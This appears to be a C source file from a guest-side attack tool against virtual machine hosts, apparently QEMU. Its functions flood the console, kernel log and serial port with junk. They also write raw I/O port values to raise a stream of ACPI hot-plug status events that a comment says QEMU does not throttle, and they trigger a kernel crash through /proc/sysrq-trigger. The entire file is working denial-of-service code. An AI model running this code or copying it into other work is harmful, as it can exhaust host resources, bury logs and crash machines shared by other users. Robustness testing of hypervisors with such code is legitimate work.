#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/klog.h>
#include <unistd.h>

#include "hostile.h"

#define LINE "this line fills the console \033[2J\033[31m\a\x80\xff of the machine ............\n"

static unsigned long argument(int argc, char **argv, int i)
{
	return i < argc ? strtoul(argv[i], NULL, 10) : 1;
}

static unsigned long fill(const char *path, unsigned long bytes)
{
	int fd = open(path, O_WRONLY | O_NOCTTY);
	unsigned long done = 0;

	if (fd < 0) {
		printf("%s: %m\n", path);
		return 0;
	}
	while (done < bytes) {
		ssize_t n = write(fd, LINE, strlen(LINE));

		if (n <= 0)
			break;
		done += (unsigned long)n;
	}
	close(fd);
	return done;
}

/* console BYTES: by every way that leads there. */
int attack_console(int argc, char **argv)
{
	static const char *const paths[] = { "/dev/console", "/dev/ttyS0", "/dev/kmsg" };
	unsigned long bytes = argument(argc, argv, 0);

	klogctl(8, NULL, 8); /* the kernel prints all of its messages */
	for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++)
		printf("%s: %lu bytes\n", paths[i], fill(paths[i], bytes));
	klogctl(8, NULL, 4);
	return 0;
}

/* serial BYTES: past the kernel, into the port. */
int attack_serial(int argc, char **argv)
{
	unsigned long bytes = argument(argc, argv, 0);

	if (iopl(3) < 0) {
		printf("iopl: %m\n");
		return 1;
	}
	for (unsigned long i = 0; i < bytes; i++)
		outb((unsigned char)(i % 61 ? 'a' + i % 26 : '\n'), 0x3f8);
	printf("serial: %lu bytes\n", bytes);
	return 0;
}

/*
 * acpi NUMBER: as many ACPI_DEVICE_OST events of QEMU, which it does not slow down as it does
 * others: by the registers of q35's CPU hot-plug (docs/specs/acpi_cpu_hotplug.rst).
 */
int attack_acpi(int argc, char **argv)
{
	enum {
		BASE = 0xcd8,
		SELECTOR = BASE,
		COMMAND = BASE + 5,
		DATA = BASE + 8
	};
	unsigned long number = argument(argc, argv, 0);

	if (iopl(3) < 0) {
		printf("iopl: %m\n");
		return 1;
	}
	outl(0, SELECTOR);
	outb(2, COMMAND); /* DATA is the status of _OST from now on */
	for (unsigned long i = 0; i < number; i++)
		outl((unsigned int)i, DATA);
	printf("acpi: %lu events\n", number);
	return 0;
}

/* sysrq LETTER */
int attack_sysrq(int argc, char **argv)
{
	int fd = open("/proc/sysrq-trigger", O_WRONLY);

	if (fd < 0) {
		printf("sysrq-trigger: %m\n");
		return 1;
	}
	write_all(fd, argc ? argv[0] : "c", 1);
	return 0;
}
